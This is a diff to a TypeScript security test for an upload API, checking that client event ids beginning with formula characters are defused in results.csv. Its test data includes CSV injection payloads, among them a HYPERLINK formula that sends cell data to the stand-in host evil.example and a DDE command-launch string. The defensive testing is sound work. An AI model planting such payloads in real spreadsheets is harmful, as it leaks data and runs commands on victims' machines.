@@ -1,7 +1,9 @@
 import { parse as parseCsv } from 'csv-parse/sync';
 import type { Response } from 'superagent';
-import { bearer, startTestApp, TestApp } from '../support/test-app';
-import { finished, firm, Firm } from './security-fixtures';
+import type { TestApp } from '../support/test-app';
+import { bearer, startTestApp } from '../support/test-app';
+import type { Firm } from './security-fixtures';
+import { finished, firm } from './security-fixtures';
 
 function text(res: Response, done: (err: Error | null, body: string) => void): void {
   const chunks: Buffer[] = [];
@@ -22,9 +24,17 @@ describe('security: formula injection in the files the API produces', () => {
   });
 
   it('defuses client event ids (and reasons quoting them) that start with = + - @, tab or CR in results.csv', async () => {
-    const ids = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1', '-2+3', '\t=1+1', '＝1+1', 'erp-0001'];
-    const csv = ['type,batteryCodes,occurredAt,clientEventId', ...ids.map((id) => `repaired,NOT-A-CODE,2026-05-01T10:00:00+08:00,"${id.replace(/"/g, '""')}"`)].join('\r\n');
-    const res = await t.http().post('/v1/uploads').set(bearer(maker.key)).attach('file', Buffer.from(csv), { filename: 'e.csv', contentType: 'text/csv' }).expect(202);
+    const ids = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1+1', '-2+3', '\t=1+1', '＝1+1', 'erp-0001'];
+    const csv = [
+      'type,batteryCodes,occurredAt,clientEventId',
+      ...ids.map((id) => `repaired,NOT-A-CODE,2026-05-01T10:00:00+08:00,"${id.replace(/"/g, '""')}"`),
+    ].join('\r\n');
+    const res = await t
+      .http()
+      .post('/v1/uploads')
+      .set(bearer(maker.key))
+      .attach('file', Buffer.from(csv), { filename: 'e.csv', contentType: 'text/csv' })
+      .expect(202);
     const state = await finished(t, res.body.id as string, maker.key);
     expect(state.counts.rejected).toBe(ids.length);
 
